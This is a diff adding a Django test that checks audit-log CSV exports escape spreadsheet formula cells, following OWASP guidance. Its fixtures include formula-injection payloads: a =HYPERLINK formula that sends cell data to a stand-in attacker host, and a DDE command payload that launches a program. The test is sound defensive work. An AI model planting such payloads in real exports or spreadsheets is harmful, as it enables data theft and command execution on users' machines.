@@ -336,3 +336,37 @@ def test_records_list_never_counts_and_pages_forward() -> None:
     assert len(first.context["cl"].result_list) == 100 and b"more on the next" in first.content
     second = client.get("/admin/audit/usagerecord/?p=2")
     assert len(second.context["cl"].result_list) == 50 and b"more on the next" not in second.content
+
+
+def test_csv_exports_neutralise_formula_cells() -> None:
+    """Issue 17 F9: a model name such as =HYPERLINK(...) was exported as-is (a formula to
+    spreadsheet applications). OWASP: cells starting with = + - @ tab or CR get a quote."""
+    import csv
+    import io
+
+    boss = get_user_model().objects.create_superuser("boss", "b@example.com", "pw-boss-123")
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tx",
+        "\rx",
+    ]
+    UsageRecord.objects.bulk_create(
+        [_rec(requested_model=m, account_label="@acct", error_message="=1+1") for m in hostile]
+        + [_rec(requested_model="gpt-4o-mini")]
+    )
+    rollups_update()
+    client = Client()
+    client.force_login(boss)
+    for url, column in (
+        ("/admin/audit/usagerecord/export/records.csv", "requested_model"),
+        ("/admin/audit/usagerecord/export/rollups.csv?granularity=h", "model"),
+    ):
+        text = b"".join(client.get(url).streaming_content).decode()  # type: ignore[attr-defined]
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        models = sorted(row[column] for row in rows)
+        assert sorted(["'" + m for m in hostile] + ["gpt-4o-mini"]) == models
+        assert {row["account_label"] for row in rows} == {"'@acct", "acct-A"}
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
